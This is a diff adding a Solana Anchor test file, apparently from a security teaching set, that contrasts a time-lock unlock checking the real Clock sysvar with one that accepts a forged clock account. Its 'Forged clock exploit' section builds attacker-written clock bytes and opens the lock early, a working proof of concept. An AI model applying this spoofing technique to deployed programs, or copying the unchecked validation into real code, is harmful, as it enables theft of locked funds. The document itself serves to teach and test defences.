@@ -0,0 +1,124 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { SysvarSpoofing } from "../target/types/sysvar_spoofing";
+import { expect } from "chai";
+import { ProgramTestContext } from "solana-bankrun";
+import {
+  Keypair,
+  LAMPORTS_PER_SOL,
+  SYSVAR_CLOCK_PUBKEY,
+  SystemProgram,
+} from "@solana/web3.js";
+import { ownedAccount, setupProgram, systemAccount } from "./helpers/harness";
+
+describe("12-sysvar-spoofing", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+
+  const program = anchor.workspace.SysvarSpoofing as Program<SysvarSpoofing>;
+
+  // Far beyond any test validator clock
+  const UNLOCK_AT = 4_000_000_000;
+
+  describe("✅ SECURE: Real clock", () => {
+    it("Refuses to unlock before unlock_at", async () => {
+      const owner = Keypair.generate();
+      const lock = Keypair.generate();
+      const airdrop = await provider.connection.requestAirdrop(
+        owner.publicKey,
+        2 * LAMPORTS_PER_SOL,
+      );
+      await provider.connection.confirmTransaction(airdrop);
+
+      await program.methods
+        .createLock(new anchor.BN(LAMPORTS_PER_SOL), new anchor.BN(UNLOCK_AT))
+        .accounts({
+          owner: owner.publicKey,
+          lock: lock.publicKey,
+          systemProgram: SystemProgram.programId,
+        })
+        .signers([owner, lock])
+        .rpc();
+
+      try {
+        await program.methods
+          .unlockSecure()
+          .accounts({
+            owner: owner.publicKey,
+            lock: lock.publicKey,
+            clock: SYSVAR_CLOCK_PUBKEY,
+          })
+          .signers([owner])
+          .rpc();
+
+        throw new Error("Expected lock to still be closed");
+      } catch (error: any) {
+        expect(error.message).to.include("StillLocked");
+      }
+    });
+  });
+
+  describe("🚨 Forged clock exploit", () => {
+    // A forged sysvar must hold attacker-written bytes, so it is injected
+    // with bankrun along with the victim's lock
+    let context: ProgramTestContext;
+    let bankrunProgram: Program<SysvarSpoofing>;
+    const owner = Keypair.generate();
+    const lock = Keypair.generate().publicKey;
+    const fakeClock = Keypair.generate().publicKey;
+
+    beforeEach(async () => {
+      // Clock layout: slot, epoch_start_timestamp, epoch,
+      // leader_schedule_epoch, unix_timestamp - all 8 bytes
+      const clockData = Buffer.alloc(40);
+      clockData.writeBigInt64LE(BigInt(UNLOCK_AT + 1), 32);
+
+      const lockData = await program.coder.accounts.encode("timeLock", {
+        owner: owner.publicKey,
+        unlockAt: new anchor.BN(UNLOCK_AT),
+      });
+
+      ({ context, program: bankrunProgram } = await setupProgram(program, [
+        systemAccount(owner.publicKey),
+        ownedAccount(lock, program.programId, lockData, 2 * LAMPORTS_PER_SOL),
+        ownedAccount(fakeClock, SystemProgram.programId, clockData),
+      ]));
+    });
+
+    it("Insecure path unlocks early with the forged clock", async () => {
+      await bankrunProgram.methods
+        .unlockInsecure()
+        .accounts({
+          owner: owner.publicKey,
+          lock,
+          clock: fakeClock,
+        })
+        .signers([owner])
+        .rpc();
+
+      expect(await context.banksClient.getAccount(lock)).to.be.null;
+      const balance = await context.banksClient.getBalance(owner.publicKey);
+      expect(Number(balance)).to.equal(3 * LAMPORTS_PER_SOL);
+      console.log("    🚨 EXPLOIT SUCCESSFUL: time lock opened early");
+    });
+
+    it("Secure path rejects the forged clock", async () => {
+      try {
+        await bankrunProgram.methods
+          .unlockSecure()
+          .accounts({
+            owner: owner.publicKey,
+            lock,
+            clock: fakeClock,
+          })
+          .signers([owner])
+          .rpc();
+
+        throw new Error("Expected forged clock to be rejected");
+      } catch (error: any) {
+        expect(error.message).to.include("InvalidSysvar");
+        console.log("    ✅ Forged clock rejected by address constraint");
+      }
+    });
+  });
+});